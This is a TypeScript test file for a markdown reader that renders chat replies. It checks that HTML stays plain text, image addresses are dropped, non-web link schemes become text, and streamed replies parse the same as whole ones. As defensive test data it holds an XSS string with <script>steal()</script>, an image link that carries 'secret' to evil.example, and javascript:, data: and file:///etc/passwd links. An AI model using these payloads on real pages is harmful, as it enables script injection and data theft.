// Markdown as values: nothing a reply contains becomes more than text, and a growing reply reads as the whole one.
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { createMarkdownReader, readMarkdown } from './markdown-reader.ts';
import type { Block, Inline } from './markdown.ts';

const textOf = (children: readonly Inline[]): string =>
	children
		.map((part) => ('children' in part ? textOf(part.children) : 'text' in part ? part.text : ''))
		.join('');

test('HTML is text, with every character that was written', () => {
	const hostile = '<img src=x onerror=alert(1)><script>steal()</script> and <b>bold</b>';
	const said = readMarkdown(hostile).map((block) =>
		'children' in block ? textOf(block.children as Inline[]) : ''
	);
	expect(said.join('')).toBe(hostile);
});

test('a picture is a chip with its words and no address', () => {
	expect(readMarkdown('![the *map*](https://evil.example/?q=secret)')).toEqual([
		{ kind: 'paragraph', children: [{ kind: 'image', alt: 'the *map*' }] }
	]);
});

test('a link to the web shows its host; any other scheme is text', () => {
	const [link] = readMarkdown('[here](https://user@evil.example:8080/a?b)') as [
		Extract<Block, { kind: 'paragraph' }>
	];
	expect(link.children[0]).toMatchObject({ kind: 'link', host: 'evil.example:8080' });
	for (const scheme of ['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', 'vbscript:x'])
		expect(readMarkdown(`[here](${scheme})`)).toEqual([
			{ kind: 'paragraph', children: [{ kind: 'text', text: `[here](${scheme})` }] }
		]);
});

test('speech and action keep their marks: an action is emphasis', () => {
	expect(readMarkdown('*She nods.* “Yes.”')).toEqual([
		{
			kind: 'paragraph',
			children: [
				{ kind: 'em', children: [{ kind: 'text', text: 'She nods.' }] },
				{ kind: 'text', text: ' “Yes.”' }
			]
		}
	]);
});

test('an action that has begun is shown as one before its star arrives', () => {
	const read = createMarkdownReader();
	expect(read('“Yes.” *She no', { growing: true }).blocks).toEqual([
		{
			kind: 'paragraph',
			children: [
				{ kind: 'text', text: '“Yes.” ' },
				{ kind: 'em', children: [{ kind: 'text', text: 'She no' }] }
			]
		}
	]);
});

const pieces = fc.array(
	fc.constantFrom(
		'word ',
		'*act* ',
		'**loud** ',
		'\n\n',
		'\n',
		'- item\n',
		'1. one\n',
		'> quoted\n',
		'```\ncode\n```\n',
		'---\n',
		'# head\n',
		'<i>x</i>',
		'| a | b |\n|---|---|\n| 1 | 2 |\n',
		'[l](https://a.example) ',
		'🎏',
		'سلام '
	),
	{ minLength: 1, maxLength: 40 }
);

test('a reply read piece by piece ends as the reply read whole', () => {
	fc.assert(
		fc.property(pieces, (parts) => {
			const read = createMarkdownReader();
			let text = '';
			for (const part of parts) {
				text += part;
				read(text, { growing: true });
			}
			expect(read(text).blocks).toEqual(readMarkdown(text));
		}),
		{ numRuns: 500 }
	);
});
